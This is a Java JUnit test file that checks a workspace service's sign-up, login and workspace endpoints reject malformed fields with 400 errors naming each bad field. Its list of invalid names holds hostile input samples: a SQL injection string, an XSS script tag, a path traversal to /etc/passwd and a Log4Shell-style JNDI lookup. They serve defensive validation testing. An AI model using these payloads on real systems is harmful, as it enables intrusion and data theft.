package dev.berth.e2e.input;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.berth.e2e.harness.Answer;
import dev.berth.e2e.harness.Api;
import dev.berth.e2e.harness.BerthServer;
import dev.berth.e2e.harness.Person;
import dev.berth.e2e.harness.SharedServer;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ExtendWith(SharedServer.class)
class BadFieldsTest {

  private static final String NUL = "\\u0000";

  /** JSON that no text field can mean. */
  private static final List<String> NO_TEXT = List.of("7", "1.5", "true", "[\"a\"]", "{\"a\":1}");

  /** Texts that no name, slug or address can be. */
  private static final List<String> NO_NAME =
      List.of(
          "\"\"",
          "\" \"",
          "\"" + "a".repeat(300) + "\"",
          "\"" + "a".repeat(100_000) + "\"",
          "\"a" + NUL + "b\"",
          "\"a\\nb\"",
          "\"a\\u001b[31mb\"",
          "\"\\ud800\"",
          "\"\\u202eabc\"",
          "\"Ωmega κόσμε\"",
          "\"名前テスト\"",
          "\"a'; DROP TABLE users; --\"",
          "\"<script>alert(1)</script>\"",
          "\"../../etc/passwd\"",
          "\"${jndi:ldap://192.0.2.1/a}\"");

  private static final List<String> NO_NUMBER =
      List.of(
          "\"many\"", "true", "[]", "{}", "-1", "1.5", "1e400", "99999999999999999999", "\"NaN\"");

  @Test
  void everyFieldOfASignUpIsHeldToItsForm(BerthServer server) {
    Map<String, String> good =
        fields(
            "email", "\"eve@example.com\"",
            "password", "\"a long enough one\"",
            "full_name", "\"Eve Example\"",
            "tenant_name", "\"Eve & Co\"",
            "tenant_slug", "\"eve-co\"",
            "username", "\"eve\"");

    for (String field : List.of("email", "tenant_slug", "username")) {
      refusesEach(server.api(), "/auth/register", good, field, both(NO_TEXT, NO_NAME));
    }
    for (String field : List.of("password", "full_name", "tenant_name")) {
      refusesEach(server.api(), "/auth/register", good, field, NO_TEXT);
      refusesEach(
          server.api(),
          "/auth/register",
          good,
          field,
          List.of("\"\"", "\"" + "a".repeat(100_000) + "\"", "\"a" + NUL + "b long enough\""));
    }
    for (String field : List.of("email", "password", "full_name", "tenant_name", "tenant_slug")) {
      refusesEach(server.api(), "/auth/register", good, field, List.of("", "null"));
    }
  }

  @Test
  void everyFieldOfAWorkspaceIsHeldToItsForm(BerthServer server) {
    Api api = Person.signUp(server).api();
    Map<String, String> good = fields("name", "\"good-name\"", "template", "\"code-server\"");

    refusesEach(api, "/workspaces", good, "name", both(NO_TEXT, NO_NAME));
    refusesEach(
        api,
        "/workspaces",
        good,
        "name",
        List.of("", "null", "\"ab\"", "\"a--b\"", "\"-ab\"", "\"ab-\""));
    refusesEach(api, "/workspaces", good, "template", both(NO_TEXT, NO_NAME));
    for (String field : List.of("disk_mb", "memory_mb", "cpu_percent", "auto_stop_minutes")) {
      refusesEach(api, "/workspaces", good, field, NO_NUMBER);
    }
    assertThat(api.get("/workspaces").expect(200).body().path("items")).isEmpty();
  }

  @Test
  void aLogInWithAnythingElseThanTextsIsRefusedAndNeverBreaks(BerthServer server) {
    Map<String, String> good =
        fields("email", "\"nobody@example.com\"", "password", "\"a long enough one\"");

    refusesEach(server.api(), "/auth/login", good, "email", both(NO_TEXT, List.of("", "null")));
    refusesEach(server.api(), "/auth/login", good, "password", both(NO_TEXT, List.of("", "null")));
    for (String value : NO_NAME) {
      for (String field : good.keySet()) {
        Answer answer = server.api().post("/auth/login", json(good, field, value));
        assertThat(answer.status()).as(field + "=" + shown(value)).isIn(400, 401);
      }
    }
  }

  @Test
  void allFaultsOfABodyAreNamedAtOnce(BerthServer server) {
    Answer answer =
        server
            .api()
            .post(
                "/auth/register",
                Map.of("email", "no address", "password", "short", "tenant_slug", "a--b"))
            .expect(400);

    assertThat(named(answer))
        .contains("email", "password", "tenant_slug", "full_name", "tenant_name");
  }

  @Test
  void aFieldThatDoesNotExistOrIsNotForClientsIsRefused(BerthServer server) {
    Api api = Person.signUp(server).api();
    for (String field :
        List.of("role", "tenant_id", "status", "owner_id", "nmae", "__proto__", "constructor")) {
      Answer answer = api.post("/workspaces", "{\"name\":\"good-name\",\"" + field + "\":\"x\"}");
      assertThat(answer.status()).as(field).isEqualTo(400);
    }
    assertThat(api.get("/workspaces").expect(200).body().path("items")).isEmpty();
  }

  private static void refusesEach(
      Api api, String path, Map<String, String> good, String field, List<String> values) {
    for (String value : values) {
      Answer answer = api.post(path, json(good, field, value));
      assertThat(answer.status())
          .as("%s %s=%s: %s", path, field, shown(value), answer.text())
          .isEqualTo(400);
      assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
      assertThat(named(answer)).as("%s=%s: %s", field, shown(value), answer.text()).contains(field);
    }
  }

  /** The fields as JSON, one replaced; left out when the value is empty. */
  private static String json(Map<String, String> good, String field, String value) {
    Map<String, String> fields = new LinkedHashMap<>(good);
    fields.put(field, value);
    StringBuilder json = new StringBuilder("{");
    fields.forEach(
        (name, text) -> {
          if (!text.isEmpty()) {
            json.append(json.length() > 1 ? "," : "");
            json.append('"').append(name).append("\":").append(text);
          }
        });
    return json.append('}').toString();
  }

  private static List<String> named(Answer answer) {
    List<String> names = new ArrayList<>();
    for (JsonNode error : answer.body().path("errors")) {
      names.add(error.path("field").asText());
    }
    return names;
  }

  private static Map<String, String> fields(String... pairs) {
    Map<String, String> fields = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      fields.put(pairs[i], pairs[i + 1]);
    }
    return fields;
  }

  private static List<String> both(List<String> some, List<String> more) {
    return Stream.concat(some.stream(), more.stream()).toList();
  }

  private static String shown(String value) {
    return value.length() > 60 ? value.substring(0, 60) + "…" : value;
  }
}
